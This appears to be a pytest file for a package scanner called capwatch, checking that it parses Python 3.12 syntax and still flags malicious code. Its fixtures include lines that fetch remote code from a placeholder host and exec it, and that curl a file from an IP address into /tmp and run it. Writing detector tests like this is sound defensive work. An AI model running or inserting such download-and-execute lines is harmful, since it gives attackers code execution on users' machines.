"""Code written for Python 3.12 and later (f-strings that nest the same quotes, type
parameters): capwatch parses with its own interpreter's grammar, so on 3.12 and later such files
are read whole, and a payload cannot hide on a line that an older grammar rejects."""

from __future__ import annotations

import sys

import pytest
from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Phase, Severity

pytestmark = pytest.mark.skipif(
    sys.version_info < (3, 12), reason="the running interpreter has Python 3.11's grammar"
)


def _scan(code: str):  # type: ignore[no-untyped-def]
    files = {"setup.py": "", "modern/__init__.py": code}
    return scan_bytes(sdist_bytes(files, top="modern-1.0"), "modern-1.0.tar.gz")


def test_a_download_run_on_a_line_with_nested_quotes_is_seen() -> None:
    result = _scan(
        "import requests\n"
        'exec(requests.get(f"https://{"cdn.example.org"}/stage").text)\n'
    )
    assert not [f for f in result.findings if f.rule == "CW902"]
    assert any(
        f.rule == "CW102" and f.severity is Severity.CRITICAL and f.phase is Phase.IMPORT
        for f in result.findings
    )


def test_type_parameters_parse() -> None:
    result = _scan(
        "import subprocess\n"
        "class Box[T]:\n"
        "    def __init__(self, item: T) -> None:\n"
        "        self.item = item\n"
        "type Pair[T] = tuple[T, T]\n"
        "def first[T](items: list[T]) -> T:\n"
        "    return items[0]\n"
        "subprocess.run(['curl', '-s', 'http://203.0.113.9/x', '-o', '/tmp/x'])\n"
        "subprocess.run(['/tmp/x'])\n"
    )
    assert not [f for f in result.findings if f.rule == "CW902"]
    assert any(f.rule == "CW103" and f.phase is Phase.IMPORT for f in result.findings)
